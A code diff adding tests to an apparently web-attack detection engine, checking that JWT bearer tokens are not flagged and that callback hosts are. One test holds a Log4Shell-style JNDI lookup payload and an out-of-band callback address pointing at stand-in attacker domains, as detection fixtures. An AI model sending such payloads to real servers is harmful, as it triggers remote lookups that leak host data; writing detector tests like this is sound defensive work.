@@ -1,5 +1,8 @@
 from __future__ import annotations
 
+import base64
+import json
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -90,3 +93,43 @@ def test_engine_never_raises_on_any_request(target: str, headers: list[tuple[str
     request = http_request(target, method="POST", body=body, headers=(("Host", "x"), *headers))
     for hit in DetectionEngine(ENGINE_DETECTORS).analyze(request):
         assert hit.attack_type and hit.rule and hit.point
+
+
+def _base64url(data: bytes) -> str:
+    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    claims=st.dictionaries(
+        st.sampled_from(["sub", "name", "email", "scope", "iss", "aud", "tenant", "roles"]),
+        st.one_of(
+            st.uuids().map(str),
+            st.integers(0, 1 << 40).map(str),
+            st.from_regex(r"[a-z]{2,10}\.[a-z]{2,10}@[a-z]{3,10}\.(com|org|io)", fullmatch=True),
+            st.from_regex(r"[a-z]{3,12}(:[a-z]{3,8})?( [a-z]{3,12}:[a-z]{3,8}){0,3}", fullmatch=True),
+            st.sampled_from(["Ada Lovelace", "https://id.example.com/", "tenant-42", "admin user"]),
+        ),
+        min_size=1,
+    ),
+    signature=st.binary(min_size=32, max_size=64),
+)
+def test_a_bearer_token_is_not_an_attack(claims: dict[str, str], signature: bytes) -> None:
+    """Every API call carries a JWT: its dot-separated base64 segments are not a callback domain."""
+    header = _base64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
+    token = f"{header}.{_base64url(json.dumps(claims).encode())}.{_base64url(signature)}"
+    headers = (("Host", "shop.example.com"), ("Authorization", f"Bearer {token}"))
+    request = http_request("/api/orders", headers=headers)
+    assert DetectionEngine(ENGINE_DETECTORS).analyze(request) == []
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.attacker-dns.me/a}",
+        "root@c59e3crp82ke7bcnedq0yyyyyyyyyyyyyy.callbacks.example.net",
+    ],
+)
+def test_a_callback_host_with_a_random_label_is_found(value: str) -> None:
+    request = http_request("/", headers=(("Host", "shop.example.com"), ("User-Agent", value)))
+    assert "scanner" in {hit.attack_type for hit in DetectionEngine(ENGINE_DETECTORS).analyze(request)}
